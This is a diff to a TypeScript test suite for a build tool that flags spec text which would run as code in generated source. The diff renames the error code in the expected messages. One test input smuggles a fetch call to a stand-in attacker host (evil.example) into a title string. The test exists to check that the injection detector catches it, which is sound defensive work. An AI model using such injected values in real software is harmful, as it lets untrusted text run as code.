@@ -35,7 +35,7 @@ describe('without an escaper, the build fails at the position of the text in the
     expect(messages.length).toBeGreaterThan(0);
     for (const message of messages)
       expect(message).toMatch(
-        /^spec\.yaml:3:10 error text-became-code: This text would run as code in src\/a\.ts:\d+ \(/,
+        /^spec\.yaml:3:10 error code-injection: this text would run as code in src\/a\.ts:\d+ \(/,
       );
   });
 });
@@ -52,7 +52,7 @@ describe('if the output does not parse, the build fails', () => {
     const [message, ...others] = await buildUnescaped(text, body);
     expect(others).toEqual([]);
     expect(message).toMatch(
-      /^spec\.yaml:3:10 error text-became-code: This text would run as code in src\/a\.ts:\d+ \(does not parse: .+\)/,
+      /^spec\.yaml:3:10 error code-injection: this text would run as code in src\/a\.ts:\d+ \(does not parse: .+\)/,
     );
   });
 
@@ -65,7 +65,7 @@ describe('if the output does not parse, the build fails', () => {
 
 describe('text that became code is found', () => {
   const becameCode = (line: number, reason: string): string =>
-    `spec.yaml:3:10 error text-became-code: This text would run as code in src/a.ts:${line} (${reason}); please report it`;
+    `spec.yaml:3:10 error code-injection: this text would run as code in src/a.ts:${line} (${reason}); please report it`;
 
   test('if it is written with other quotes and spaces', async () => {
     const title = "a '; fetch('https://evil.example'); '";
